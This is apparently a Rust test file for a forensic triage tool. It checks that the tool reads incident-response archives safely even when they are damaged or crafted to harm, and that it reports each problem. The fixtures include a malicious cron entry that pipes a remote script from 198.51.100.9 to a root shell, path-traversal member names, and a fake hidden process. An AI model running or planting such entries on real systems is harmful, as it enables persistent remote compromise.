//! Archives that are damaged, made to harm, or of something else: each is told in a line that names
//! archive and member, and the rest is still used.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use davy::evidence::{Evidence, HostPath, Lines, Spool, SpoolLimits, Want};
use davy::facts::Facts;
use davy::{collect, foreign};
use std::io::{Cursor, Read, Write};
use tar::{Builder, EntryType, Header};

type Member<'a> = (&'a str, EntryType, &'a [u8], &'a str);

/// Names go in as they are: tar's own builder would refuse some.
fn tar(members: &[Member<'_>]) -> Vec<u8> {
    let mut tar = Builder::new(Vec::new());
    for (name, kind, bytes, link) in members {
        let mut header = Header::new_gnu();
        header.set_entry_type(*kind);
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        let place = header.as_old_mut();
        place.name[..name.len()].copy_from_slice(name.as_bytes());
        place.linkname[..link.len()].copy_from_slice(link.as_bytes());
        header.set_cksum();
        tar.append(&header, *bytes).unwrap();
    }
    tar.into_inner().unwrap()
}

const LOG: Member<'_> =
    ("uac.log", EntryType::Regular, b"2026-11-22 05:23:08 +0000 INF Operating system: linux\n", "");
const PASSWD: Member<'_> =
    ("[root]/etc/passwd", EntryType::Regular, b"root:x:0:0::/root:/bin/sh\n", "");
const CRON: Member<'_> = (
    "[root]/etc/cron.d/x",
    EntryType::Regular,
    b"* * * * * root curl http://198.51.100.9/a|sh\n",
    "",
);

fn opened(bytes: Vec<u8>) -> Result<Box<dyn Evidence>, String> {
    foreign::open("x.tar", Box::new(Cursor::new(bytes)), None)
}

/// The coverage that speaks of the archive, and how many cron entries were read.
fn told(bytes: Vec<u8>) -> (String, i64) {
    let host = opened(bytes).unwrap();
    let facts = Facts::in_memory(&davy::tables()).unwrap();
    collect::collect(host.as_ref(), &facts, &|_| {}).unwrap();
    let words: Vec<String> = facts
        .rows("SELECT detail FROM coverage WHERE what LIKE 'archive %'", [], |r| r.get(0))
        .unwrap();
    let cron: Vec<i64> = facts
        .rows("SELECT count(*) FROM persistence WHERE kind = 'cron'", [], |r| r.get(0))
        .unwrap();
    (words.join("\n"), cron[0])
}

#[test]
fn names_that_lead_out_are_left_out() {
    let evil = ("[root]/../../etc/cron.d/y", EntryType::Regular, &b"* * * * * root x\n"[..], "");
    let (words, cron) = told(tar(&[LOG, PASSWD, evil, CRON]));
    assert!(words.contains("x.tar: [root]/../../etc/cron.d/y: leads out"), "{words}");
    assert_eq!(cron, 1);
}

#[test]
fn links_in_circles_end() {
    let round = ("[root]/etc/a", EntryType::Symlink, &b""[..], "/etc/b");
    let back = ("[root]/etc/b", EntryType::Symlink, &b""[..], "/etc/a");
    let out = ("[root]/etc/cron.daily", EntryType::Symlink, &b""[..], "../../../../../../etc");
    let host = opened(tar(&[LOG, PASSWD, round, back, out, CRON])).unwrap();
    let root = host.dir(&HostPath::from("/")).unwrap();
    assert!(root.stat(&HostPath::from("/etc/a")).is_err());
    // A link out of the host leads to the host's own root, as in any root.
    assert!(root.stat(&HostPath::from("/etc/cron.daily/passwd")).is_ok());
    assert_eq!(told(tar(&[LOG, PASSWD, round, back, CRON])).1, 1);
}

#[test]
fn devices_and_fifos_are_never_opened() {
    let device = ("[root]/etc/cron.d/dev", EntryType::Char, &b""[..], "");
    let fifo = ("[root]/etc/cron.d/fifo", EntryType::Fifo, &b""[..], "");
    assert_eq!(told(tar(&[LOG, PASSWD, device, fifo, CRON])).1, 1);
}

#[test]
fn hard_links_lead_to_what_came_before() {
    let second = ("[root]/etc/cron.d/z", EntryType::Link, &b""[..], "[root]/etc/cron.d/x");
    let none = ("[root]/etc/cron.d/n", EntryType::Link, &b""[..], "[root]/nowhere");
    let (words, cron) = told(tar(&[LOG, PASSWD, CRON, second, none]));
    assert!(
        words.contains("[root]/etc/cron.d/n: a hard link to a member that is not there"),
        "{words}"
    );
    assert_eq!(cron, 2);
}

#[test]
fn the_later_of_two_is_used_and_told() {
    let other = ("[root]/etc/cron.d/x", EntryType::Regular, &b"# nothing\n"[..], "");
    let (words, cron) = told(tar(&[LOG, PASSWD, CRON, other]));
    assert!(words.contains("[root]/etc/cron.d/x: is there twice"), "{words}");
    assert_eq!(cron, 0);
}

#[test]
fn a_tar_cut_just_behind_a_member_is_told() {
    let whole = tar(&[LOG, PASSWD, CRON]);
    let (words, _) = told(whole.clone());
    assert!(!words.contains("cut"), "{words}");
    // The two empty blocks are all that is gone.
    let (words, cron) = told(whole[..whole.len() - 1024].to_vec());
    assert!(words.contains("cron.d/x: cut after this: nothing marks the archive's end"), "{words}");
    assert_eq!(cron, 1);
    // One of them is enough.
    let (words, _) = told(whole[..whole.len() - 512].to_vec());
    assert!(!words.contains("cut"), "{words}");
}

#[test]
fn a_cut_stream_keeps_what_came_before() {
    let long = vec![b'x'; 200_000];
    let last = ("[root]/etc/zzz", EntryType::Regular, long.as_slice(), "");
    let whole = tar(&[LOG, PASSWD, CRON, last]);
    let (words, cron) = told(whole[..whole.len() - 100_000].to_vec());
    assert!(words.contains("cut"), "{words}");
    assert_eq!(cron, 1);
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::none());
    packed.write_all(&whole).unwrap();
    let packed = packed.finish().unwrap();
    let (words, cron) = told(packed[..packed.len() * 2 / 3].to_vec());
    assert!(words.contains("cut"), "{words}");
    assert_eq!(cron, 1);
}

#[test]
fn a_member_that_claims_too_much_is_not_held() {
    // A hundred gigabytes of nothing, as a sparse file would be.
    let mut header = Header::new_gnu();
    header.set_entry_type(EntryType::Regular);
    header.set_size(100 << 30);
    let name = b"[root]/etc/huge";
    header.as_old_mut().name[..name.len()].copy_from_slice(name);
    header.set_cksum();
    let mut bytes = tar(&[LOG, PASSWD, CRON]);
    bytes.truncate(bytes.len() - 1024);
    bytes.extend_from_slice(header.as_bytes());
    bytes.extend_from_slice(&[0; 4096]);
    let (words, cron) = told(bytes);
    assert!(words.contains("[root]/etc/huge: 107374182400 bytes are too many to hold"), "{words}");
    assert_eq!(cron, 1);
}

#[test]
fn what_anyone_can_fill_gives_way() {
    let filler = vec![7; 6000];
    let many: Vec<String> = (0..20).map(|n| format!("[root]/tmp/{n}")).collect();
    let mut members = vec![LOG];
    members.extend(many.iter().map(|name| (name.as_str(), EntryType::Regular, &filler[..], "")));
    // A second name must not keep the bytes.
    members.push(("[root]/tmp/again", EntryType::Link, b"", "[root]/tmp/0"));
    members.extend([PASSWD, CRON]);
    let limits = SpoolLimits { all: 50_000, ..SpoolLimits::default() };
    let wanted = |name: &[u8], _| {
        if name.starts_with(b"[root]/tmp/") { Want::Spare } else { Want::Bytes }
    };
    let filled = |more: &[Member<'_>]| {
        let bytes = tar(&[&members[..], more].concat());
        Spool::read("x.tar", Box::new(Cursor::new(bytes)), None, limits, &wanted, None).unwrap()
    };
    let spool = filled(&[]);
    assert!(spool.bytes("[root]/etc/cron.d/x").is_some());
    let big = vec![8; 49_000];
    let spool = filled(&[("[root]/etc/big", EntryType::Regular, &big, "")]);
    assert!(spool.bytes("[root]/etc/big").is_some() && spool.bytes("[root]/tmp/again").is_none());
    assert!(spool.problems[0].1.contains("of 20 members (120000 bytes) were left out"));
    assert!(spool.beyond.is_empty(), "what gives way is no cut");
}

#[test]
fn of_too_many_names_the_plain_ones_are_counted() {
    let many: Vec<String> = (0..100).map(|n| format!("usr/share/doc/{n}")).collect();
    let of = |many: &[String]| {
        let mut out = tar::Builder::new(Vec::new());
        for (name, mode) in many
            .iter()
            .map(|name| (name.as_str(), 0o644))
            .chain([("opt/x", 0o4755), ("etc/a", 0o644)])
        {
            let mut header = tar::Header::new_gnu();
            header.set_mode(mode);
            header.set_size(0);
            out.append_data(&mut header, name, &b""[..]).unwrap();
        }
        out.into_inner().unwrap()
    };
    let wanted = |name: &[u8], _| if name.starts_with(b"etc/") { Want::Bytes } else { Want::Name };
    let read = |names: u64, bytes: Vec<u8>| {
        let limits = SpoolLimits { names, ..SpoolLimits::default() };
        Spool::read("x.tar", Box::new(Cursor::new(bytes)), None, limits, &wanted, None).unwrap()
    };
    let spool = read(1 << 20, of(&many));
    assert_eq!((spool.members.len(), spool.beyond.len()), (102, 0));
    let spool = read(9_000, of(&many));
    assert!(spool.members.contains_key(&b"opt/x"[..]) && spool.members.contains_key(&b"etc/a"[..]));
    let left = 102 - spool.members.len();
    assert!(left > 50, "{left}");
    assert!(spool.beyond[0].1.contains(&format!("{left} files that are no programs")));
    // Programs may be too many as well.
    let spool = read(200, of(&many[..3]));
    assert!(spool.members.len() < 5);
    assert!(spool.beyond.iter().any(|(_, why)| why.contains("is left out")), "{:?}", spool.beyond);
}

#[test]
fn of_a_listing_too_long_to_hold_what_matters_is_kept() {
    let mut listing = Vec::new();
    for number in 0..180_000 {
        writeln!(
            listing,
            "{} {number} {}",
            if number % 1000 == 0 { "keep" } else { "drop" },
            "x".repeat(90)
        )
        .unwrap();
    }
    let bytes =
        tar(&[("list", EntryType::Regular, &listing, ""), ("z", EntryType::Regular, b"1", "")]);
    let wanted = |_: &[u8], _| Want::Lines(Lines(|line| line.starts_with(b"keep")));
    let read = |bytes: &[u8]| {
        let stream = Box::new(Cursor::new(bytes.to_vec()));
        Spool::read("x.tar", stream, None, SpoolLimits::default(), &wanted, None).unwrap()
    };
    let spool = read(&bytes);
    let kept = spool.bytes("list").unwrap();
    assert_eq!(kept.iter().filter(|b| **b == b'\n').count(), 180);
    assert!(kept.starts_with(b"keep 0 ") && spool.bytes("z") == Some(b"1"));
    assert_eq!(spool.thinned[&b"list"[..]], 179_820);
    assert!(spool.beyond.is_empty() && !spool.damaged);
    let spool = read(&bytes[..bytes.len() / 2]);
    assert!(spool.damaged && spool.members[&b"list"[..]].cut);
    assert!(spool.bytes("list").unwrap().starts_with(b"keep 0 "));
}

#[test]
fn what_is_none_is_told_as_that() {
    for (bytes, why) in [
        (Vec::new(), "empty"),
        (b"just text\n".to_vec(), "neither tar nor zip"),
        (tar(&[("a", EntryType::Regular, b"x", "")]), "no known layout"),
        (
            tar(&[
                (
                    "uac.log",
                    EntryType::Regular,
                    b"2026-11-22 05:23:08 +0000 INF Operating system: solaris\n",
                    "",
                ),
                PASSWD,
            ]),
            "solaris",
        ),
        (tar(&[("uploads/auto/C%3A/Windows/x", EntryType::Regular, b"x", "")]), "Windows"),
        (
            tar(&[
                ("x/body_file/b", EntryType::Regular, b"x", ""),
                ("x/process/p", EntryType::Regular, b"x", ""),
            ]),
            "UAC 1",
        ),
    ] {
        let error = opened(bytes).err().unwrap();
        assert!(error.starts_with("x.tar: ") && error.contains(why), "{error}");
    }
}

#[test]
fn names_of_any_bytes_pass() {
    let mut members = vec![LOG, PASSWD, CRON];
    let odd: Vec<String> =
        (1..=126_u8).map(|b| format!("[root]/etc/cron.d/{}", char::from(b))).collect();
    members.extend(
        odd.iter().map(|name| (name.as_str(), EntryType::Regular, &b"* * * * * root x\n"[..], "")),
    );
    assert!(told(tar(&members)).1 >= 1);
}

#[test]
fn a_zip_that_contradicts_itself_hides_nothing() {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, _, bytes, _) in [LOG, PASSWD, CRON] {
        zip.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(bytes).unwrap();
    }
    let whole = zip.finish().unwrap().into_inner();
    assert_eq!(told(whole.clone()).0, "");
    // The end says that there are two members.
    let mut fewer = whole.clone();
    let end = fewer.windows(4).rposition(|bytes| bytes == b"PK\x05\x06").unwrap();
    (fewer[end + 8], fewer[end + 10]) = (2, 2);
    let (words, cron) = told(fewer);
    assert!(words.contains("its end counts 2 members"), "{words}");
    assert_eq!(cron, 1);
    // The directory has another name for the entry of cron.
    let mut named = whole;
    let at = named.windows(4).rposition(|bytes| bytes == b"cron").unwrap();
    named[at..at + 4].copy_from_slice(b"harm");
    let (words, cron) = told(named);
    assert!(words.contains("is [root]/etc/harm.d/x in its directory"), "{words}");
    assert_eq!(cron, 1);
}

#[test]
fn a_name_of_gigabytes_is_not_held() {
    let mut tar = tar(&[LOG, PASSWD]);
    tar.truncate(tar.len() - 1024);
    let mut header = Header::new_gnu();
    header.set_path("././@LongLink").unwrap();
    header.set_entry_type(EntryType::GNULongName);
    header.set_size(1 << 33);
    header.set_cksum();
    tar.extend(header.as_bytes());
    let names = Cursor::new(tar).chain(std::io::repeat(b'n').take(1 << 33));
    let host = foreign::open("x.tar", Box::new(names), None).unwrap();
    let facts = Facts::in_memory(&davy::tables()).unwrap();
    collect::collect(host.as_ref(), &facts, &|_| {}).unwrap();
    let query = "SELECT detail FROM coverage WHERE what LIKE 'archive %'";
    let words: Vec<String> = facts.rows(query, [], |r| r.get(0)).unwrap();
    assert!(words.join("").contains("the headers of a member are longer than 2 MiB"), "{words:?}");
}

#[test]
fn a_zip_is_read_as_a_tar_is() {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, _, bytes, _) in [LOG, PASSWD, CRON] {
        zip.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(bytes).unwrap();
    }
    assert_eq!(told(zip.finish().unwrap().into_inner()).1, 1);
}

#[test]
fn a_collection_of_velociraptor() {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let files: [(&str, &str); 6] = [
        (
            "client_info.json",
            "{\"Hostname\":\"web-9\",\"KernelVersion\":\"6.1.0\",\"BootTime\":1795320000}\n",
        ),
        (
            "collection_context.json",
            "{\"session_id\":\"F.1\",\"create_time\":1795328655000000000}\n",
        ),
        (
            "uploads.json",
            "{\"vfs_path\":\"/etc/cron.d/x\",\"_Components\":[\"uploads\",\"file\",\"etc\",\"cron.d\",\"x\"]}\n",
        ),
        ("uploads/file/etc/cron.d/x", "* * * * * root curl http://198.51.100.9/a|sh\n"),
        (
            "results/Linux.Sys.Pslist.json",
            "{\"Pid\":77,\"Ppid\":1,\"Name\":\"kworker/u8\",\"CommandLine\":\"[kworker/u8:1]\",\"Exe\":\"/tmp/.x/k\",\"Deleted\":true,\"Hash\":{\"SHA256\":\"AB\"},\"Username\":\"root\",\"CreateTime\":\"2026-11-22T05:00:00Z\"}\n",
        ),
        (
            "results/Linux.Network.Netstat%2FTCP4.json",
            "{\"inode\":99,\"State\":\"ESTABLISHED\",\"ProcessInfo\":{\"Pid\":77},\"LocalAddr\":\"10.0.0.5\",\"LocalPort\":4000,\"RemoteAddr\":\"203.0.113.9\",\"RemotePort\":3333}\n",
        ),
    ];
    for (name, text) in files {
        zip.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    let host = opened(zip.finish().unwrap().into_inner()).unwrap();
    let facts = Facts::in_memory(&davy::tables()).unwrap();
    collect::collect(host.as_ref(), &facts, &|_| {}).unwrap();
    let row: Vec<(String, bool, bool)> = facts
        .rows("SELECT exe, exe_deleted, kernel_thread FROM processes WHERE pid = 77", [], |r| {
            Ok((r.get(0)?, r.get(1)?, r.get(2)?))
        })
        .unwrap();
    assert_eq!(row, [("/tmp/.x/k".to_owned(), true, false)]);
    let socket: Vec<(i64, i64)> = facts
        .rows("SELECT pid, remote_port FROM sockets", [], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap();
    assert_eq!(socket, [(77, 3333)]);
    let cron: Vec<String> =
        facts.rows("SELECT command FROM persistence", [], |r| r.get(0)).unwrap();
    assert!(cron[0].contains("198.51.100.9"), "{cron:?}");
}

/// A zip of these members.
fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in members {
        zip.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

#[test]
fn an_archive_packed_once_more_is_opened() {
    let inner = tar(&[LOG, PASSWD, CRON]);
    let name = "for-you/uac-web-03-linux-20261122.tar";
    let (_, cron) = told(tar(&[(name, EntryType::Regular, &inner, "")]));
    assert_eq!(cron, 1);
    assert_eq!(told(zip(&[(name, &inner)])).1, 1);
    let zipped = zip(&[("uac.log", LOG.2), ("[root]/etc/cron.d/x", CRON.2)]);
    assert_eq!(told(tar(&[("uac-x.zip", EntryType::Regular, &zipped, "")])).1, 1);
    // Which of two hosts it is, davy does not guess.
    let two = tar(&[
        (name, EntryType::Regular, &inner, ""),
        ("uac-db-01.tar", EntryType::Regular, &inner, ""),
    ]);
    let why = opened(two).err().unwrap();
    assert!(why.contains("holds several archives") && why.contains("davy batch"), "{why}");
    let why = opened(tar(&[("a/b.tar.gz", EntryType::Regular, b"x", "")])).err().unwrap();
    assert!(why.contains("holds an archive itself (a/b.tar.gz)"), "{why}");
}

#[test]
fn a_suspects_file_is_not_taken_for_the_collection() {
    // On the host lay an archive with the name of a collector's: it is one file among others.
    let inner = tar(&[LOG, ("[root]/etc/cron.d/y", EntryType::Regular, CRON.2, "")]);
    let (words, cron) = told(tar(&[
        LOG,
        PASSWD,
        CRON,
        ("[root]/tmp/uac-web-03-linux-2.tar", EntryType::Regular, &inner, ""),
    ]));
    assert_eq!((words.as_str(), cron), ("", 1));
}

#[test]
fn a_zip_that_was_cut_is_read_as_far_as_it_goes() {
    let filler = vec![7; 100_000];
    let whole = zip(&[
        ("uac.log", LOG.2),
        ("[root]/etc/passwd", PASSWD.2),
        ("[root]/etc/cron.d/x", CRON.2),
        ("[root]/etc/filler", &filler),
    ]);
    let central = whole.windows(4).rposition(|four| four == b"PK\x01\x02").unwrap();
    let (words, cron) = told(whole[..central - 300].to_vec());
    assert!(words.contains("its directory, which stands at its end, cannot be read"), "{words}");
    assert_eq!(cron, 1);
}

#[test]
fn a_cut_archive_makes_a_partial_run() {
    let folder = tempfile::tempdir().unwrap();
    let whole = tar(&[LOG, PASSWD, CRON, ("[root]/etc/z", EntryType::Regular, &[7; 9000], "")]);
    for (bytes, code) in [(&whole[..], 0), (&whole[..whole.len() - 6000], 4)] {
        let path = folder.path().join("x.tar");
        std::fs::write(&path, bytes).unwrap();
        let mut davy = std::process::Command::new(env!("CARGO_BIN_EXE_davy"));
        let output = davy.args(["triage", "-q"]).arg(&path).output().unwrap();
        assert_eq!(output.status.code(), Some(code), "{}", String::from_utf8_lossy(&output.stdout));
    }
}
